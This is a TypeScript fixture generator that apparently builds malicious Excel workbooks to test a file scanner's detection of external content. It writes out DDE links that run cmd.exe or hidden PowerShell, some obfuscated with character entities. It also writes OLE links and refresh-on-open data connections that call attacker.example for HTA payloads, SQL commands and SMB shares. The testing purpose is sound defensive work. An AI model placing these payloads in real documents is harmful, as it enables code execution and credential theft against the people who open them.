import type { HostileKind } from '../../hostile-kind.js';
import { packed, WORKBOOK } from '../../twins/office.js';
import { DECLARATION, inserted, type Parts, withContentType, withPart, withRelation } from '../../twins/parts.js';
import { SHEET_NAMESPACES, SHEET_TYPE } from '../../twins/xlsx.js';

const DDE_LINKS: readonly string[] = [
  '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>',
  '<ddeLink ddeService="MSEXCEL" ddeTopic="\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe"/>',
  '<x:ddeLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ddeService="powershell" ddeTopic="-w hidden"/>',
  "<ddeLink\n  ddeTopic='/c&#32;calc.exe'\n  ddeService='c&#109;d'></ddeLink>",
];

/** A workbook that starts a program to ask it for a value. */
export const DDE_LINK: HostileKind = {
  kind: 'dde-link',
  what: 'An xlsx has a DDE link, with or without a formula that uses it, in its usual part or another.',
  source: 'MITRE ATT&CK T1559.002; ECMA-376-1 18.14',
  *files(sender) {
    for (const link of DDE_LINKS) {
      for (const part of ['externalLinks/externalLink1.xml', 'links/data1.xml']) {
        for (const formula of ['[1]!A1', null]) {
          const { number, name } = sender.letter('xlsx');
          yield { name, expected: ['external-content'], content: () => packed(linked(WORKBOOK.parts(number), part, link, formula)) };
        }
      }
    }
  },
};

/** A workbook that links an OLE object elsewhere. */
export const OLE_LINK: HostileKind = {
  kind: 'ole-link',
  what: 'An xlsx links an OLE object elsewhere.',
  source: 'ECMA-376-1 18.14; CVE-2017-0199',
  *files(sender) {
    for (const target of ['http://attacker.example/a.hta', 'file://attacker.example/share/a.doc', '\\\\attacker.example\\share\\a.doc']) {
      const { number, name } = sender.letter('xlsx');
      const link = '<oleLink r:id="rId1" progId="Word.Document"><oleItems><oleItem name="!" advise="1"/></oleItems></oleLink>';
      yield {
        name,
        expected: ['external-content', 'embedded-object'],
        content: () => {
          const parts = linked(WORKBOOK.parts(number), 'externalLinks/externalLink1.xml', link, null);
          const relation = { id: 'rId1', type: 'oleObject', target, isExternal: true };
          return packed(withRelation(parts, 'xl/externalLinks/_rels/externalLink1.xml.rels', relation));
        },
      };
    }
  },
};

const CONNECTIONS: readonly string[] = [
  '<connection id="1" name="a" type="4" refreshOnLoad="1"><webPr sourceData="1" url="http://attacker.example/a.iqy"/></connection>',
  '<connection id="1" name="a" type="5" refreshOnLoad="1"><dbPr connection="Provider=SQLOLEDB;Data Source=attacker.example" command="EXEC a"/></connection>',
  '<connection id="1" name="a" type="6" refreshOnLoad="1"><textPr sourceFile="\\\\attacker.example\\share\\a.txt"/></connection>',
  '<connection id="1" name="a" type="1" refreshOnLoad="1"><dbPr connection="DSN=a;SERVER=attacker.example"/></connection>',
];

/** A workbook that asks a server for its figures when it is opened. */
export const DATA_CONNECTION: HostileKind = {
  kind: 'data-connection',
  what: 'An xlsx has a connection to a web page, a database or a text file elsewhere, refreshed on opening.',
  source: 'ECMA-376-1 18.13; MITRE ATT&CK T1187',
  *files(sender) {
    for (const connection of CONNECTIONS) {
      const { number, name } = sender.letter('xlsx');
      yield {
        name,
        expected: ['external-content'],
        content: () => {
          const part = `${DECLARATION}<connections ${SHEET_NAMESPACES}>${connection}</connections>`;
          const parts = withPart(WORKBOOK.parts(number), 'xl/connections.xml', part);
          const related = withRelation(parts, WORKBOOK.mainRelations, { id: 'rId9', type: 'connections', target: 'connections.xml' });
          return packed(withContentType(related, 'xl/connections.xml', `${SHEET_TYPE}.connections+xml`));
        },
      };
    }
  },
};

function linked(parts: Parts, part: string, link: string, formula: string | null): Parts {
  const referring = inserted(
    parts,
    WORKBOOK.mainPart,
    '</workbook>',
    '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
  );
  const content = `${DECLARATION}<externalLink ${SHEET_NAMESPACES}>${link}</externalLink>`;
  const related = withRelation(withPart(referring, `xl/${part}`, content), WORKBOOK.mainRelations, {
    id: 'rId9',
    type: 'externalLink',
    target: part,
  });
  const typed = withContentType(related, `xl/${part}`, `${SHEET_TYPE}.externalLink+xml`);
  if (formula === null) return typed;
  return inserted(typed, 'xl/worksheets/sheet1.xml', '</sheetData>', `<row r="3"><c r="A3"><f>${formula}</f><v>0</v></c></row>`);
}
